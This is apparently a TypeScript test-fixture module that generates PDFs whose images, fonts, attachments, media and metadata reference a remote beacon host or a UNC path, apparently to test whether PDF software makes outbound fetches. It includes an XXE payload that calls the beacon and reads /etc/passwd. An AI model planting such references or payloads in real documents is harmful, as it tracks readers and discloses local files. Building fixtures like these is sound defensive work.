import { BEACON } from './beacon.ts';
import type { HostileKinds } from './kinds.ts';
import { onePage, withWords } from './write-pdf.ts';

const url = (path: string): string =>
  `<< /Type /Filespec /FS /URL /F (${BEACON}/${path}) /UF (${BEACON}/${path}) >>`;
const drawn = {
  content: withWords('q 300 0 0 300 100 100 cm /X Do Q'),
  resources: '/XObject << /X 6 0 R >>',
};
const annotated = (entries: string): Buffer =>
  onePage({ page: `/Annots [<< /Type /Annot /Rect [50 50 300 300] ${entries} >>]` });

/** Parts that lie elsewhere: whoever fetches them tells somebody who reads what, and where. */
export const REMOTES: HostileKinds = {
  image: () =>
    onePage({
      ...drawn,
      extra: [
        {
          entries: `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${url('i.png')}`,
          data: '',
        },
      ],
    }),
  'web-server-image': () =>
    onePage({
      ...drawn,
      extra: [
        {
          entries: `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F (\\\\\\\\phone-out.invalid\\\\i.png)`,
          data: '',
        },
      ],
    }),
  'font-file': () =>
    onePage({
      font: '<< /Type /Font /Subtype /TrueType /BaseFont /Far /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor << /Type /FontDescriptor /FontName /Far /Flags 4 /FontFile2 6 0 R >> >>',
      extra: [{ entries: `/F ${url('f.ttf')}`, data: '' }],
    }),
  'a-page-of-another-file': () =>
    onePage({
      ...drawn,
      extra: [
        {
          entries: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${url('r.pdf')} /Page 0 >>`,
          data: '',
        },
      ],
    }),
  'print-proxy': () =>
    onePage({
      ...drawn,
      extra: [
        {
          entries: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /Type /OPI /Version 2.0 /F ${url('opi')} >> >>`,
          data: '',
        },
      ],
    }),
  'embedded-file': () =>
    onePage({
      catalog: `/Names << /EmbeddedFiles << /Names [(a) ${url('e.exe')}] >> >> /PageMode /UseAttachments`,
    }),
  'attached-file': () => annotated(`/Subtype /FileAttachment /FS ${url('a.exe')}`),
  movie: () => annotated(`/Subtype /Movie /Movie << /F ${url('m.avi')} /Poster true >> /A << /Mode /Once >>`),
  screen: () =>
    annotated(
      `/Subtype /Screen /AA << /PV << /S /Rendition /OP 0 /R << /S /MR /C << /D ${url('s.mp4')} >> >> >> >>`,
    ),
  'rich-media': () =>
    annotated(
      `/Subtype /RichMedia /RichMediaSettings << /Activation << /Condition /PO >> >> /RichMediaContent << /Assets << /Names [(x) ${url('x.swf')}] >> >>`,
    ),
  'markup-in-metadata': () =>
    onePage({
      catalog: '/Metadata 6 0 R',
      extra: [
        {
          entries: '/Type /Metadata /Subtype /XML',
          data: `<!DOCTYPE x [<!ENTITY e SYSTEM "${BEACON}/xxe"><!ENTITY f SYSTEM "file:///etc/passwd">]><x>&e;&f;</x>`,
        },
      ],
    }),
  'web-capture': () =>
    onePage({
      catalog: `/SpiderInfo << /V 1.25 /C [<< /URL (${BEACON}/w) /F 3 >>] >> /URI << /Base (${BEACON}/) >>`,
    }),
  collection: () => onePage({ catalog: `/Collection << /Type /Collection /View /T /D (${BEACON}/c) >>` }),
};
